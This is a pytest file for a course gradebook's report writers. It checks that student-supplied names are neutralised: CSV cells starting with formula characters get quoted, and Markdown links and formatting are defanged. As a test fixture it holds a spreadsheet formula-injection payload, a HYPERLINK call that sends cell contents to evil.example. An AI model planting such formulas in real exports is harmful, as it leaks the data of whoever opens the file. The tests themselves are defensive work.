"""instructor.reports.gradebook: one escaping function, and CSV cells a spreadsheet never runs as
formulas.

A student chooses the file name the gradebook shows and the name.txt the leaderboard shows; a
cell starting with ``=``, ``+``, ``-`` or ``@`` would run as a formula when the instructor opens
the CSV in a spreadsheet (``=HYPERLINK(...)`` sends data elsewhere on a click).
"""

from __future__ import annotations

import csv
import math

import pytest

from helpers.competition import Entry
from instructor.grading.verdicts import GradeRow
from instructor.reports.board import leaderboard_markdown, write_leaderboard_csv
from instructor.reports.board_ranking import TIE_BITS, TIE_NOTE
from instructor.reports.gradebook import write_gradebook_csv, write_lms_csv
from instructor.reports.plain import plain

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(lead):
    assert plain(f"{lead}1+1", "csv") == f"'{lead}1+1"
    assert plain(f"{lead}1+1", "text") == f"{lead}1+1", "only CSV needs the quote"


def test_csv_quoting_looks_at_the_text_after_cleaning():
    assert plain("\x1b[31m=cmd\x1b[0m", "csv") == "'=cmd", "an ANSI prefix does not hide it"
    assert plain("\n\t =cmd", "csv") == "'=cmd", "nor does leading white space"
    assert plain("\ufeff=HYPERLINK(1)", "csv") == "'=HYPERLINK(1)", "nor a byte-order mark"
    assert plain("\u2060\u00ad+cmd", "csv") == "'+cmd", "nor a word joiner or soft hyphen"
    assert plain("Ann = Bob", "csv") == "Ann = Bob"


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_report_csv_starts_a_cell_with_a_formula(tmp_path):
    rows = [GradeRow(FORMULA, "01_one_hot_encoding.ipynb", "encode", 0, 1, FORMULA)]
    write_gradebook_csv(rows, tmp_path / "gradebook.csv")
    write_lms_csv(rows, tmp_path / "lms.csv")
    entry = Entry(folder=FORMULA, name=FORMULA, sentence=f"ROMEO: {FORMULA}", reason=FORMULA)
    write_leaderboard_csv([entry], tmp_path / "board.csv", sandboxed=True)
    for name in ("gradebook.csv", "lms.csv", "board.csv"):
        cells = _cells(tmp_path / name)
        assert f"'{FORMULA}" in cells, name
        assert not [c for c in cells if c[:1] in "=+-@" and c], (name, cells)


def test_scores_within_the_tie_margin_share_a_rank_and_the_order_inside_says_nothing(tmp_path):
    def scored(folder: str, bits: float, params: int) -> Entry:
        return Entry(folder, folder, bits=bits, nats=bits * math.log(2), params=params)

    entries = [
        scored("b_peek", 3.2666, 120),
        scored("a_good", 3.2670, 120),
        scored("c_third", 3.2666 + TIE_BITS + 1e-4, 90),
        scored("d_fourth", 3.2666 + TIE_BITS + 9e-4, 80),
        Entry("e_broken", "Broken", reason="looks ahead: ..."),
    ]
    path = tmp_path / "board.csv"
    write_leaderboard_csv(entries, path, sandboxed=True)
    with open(path, newline="", encoding="utf-8") as handle:
        rows = [(row[0], row[2]) for row in list(csv.reader(handle))[1:]]
    assert rows == [
        ("1", "a_good"),  # tied with b_peek: same parameters, so by folder
        ("1", "b_peek"),
        ("3", "d_fourth"),  # tied with c_third (within TIE_BITS of it), fewer parameters
        ("3", "c_third"),
        ("", "e_broken"),
    ]
    markdown = leaderboard_markdown(entries, "header")
    assert TIE_NOTE in markdown
    assert sum(line.startswith("| 1 | ") for line in markdown.splitlines()) == 2


def test_markdown_cells_render_no_strike_math_heading_or_link_a_student_wrote():
    """A reason or name in gradebook.md, the feedback or the board is text a student chose: it
    must not strike through, typeset, become a heading or a link in the instructor's viewer."""
    text = plain("# ~~no~~ $x^2$ https://evil.example/a WWW.evil.com ftp://x", "md")
    assert text == (
        r"\# \~\~no\~\~ \$x^2\$ https\[:\]//evil.example/a WWW\[.\]evil.com ftp\[:\]//x"
    )
    for linked in ("1https://e.com", "_www.e.com", "x_www.e.com", "éhttps://e.com"):
        assert "://" not in plain(linked, "md") and "www.e" not in plain(linked, "md"), linked
    assert plain("alice@evil.com mailto:a@b.c", "md") == r"alice\[@\]evil.com mailto:a\[@\]b.c"
    assert plain("bob\u3164\u3164 x\U000e0041y \u061c", "md") == "bob x y"  # invisible fillers
    assert plain("1.5 e.g. www", "md") == "1.5 e.g. www"  # ordinary dots and words stay
    assert plain("https://x.org", "text") == "https://x.org"  # only Markdown is defanged
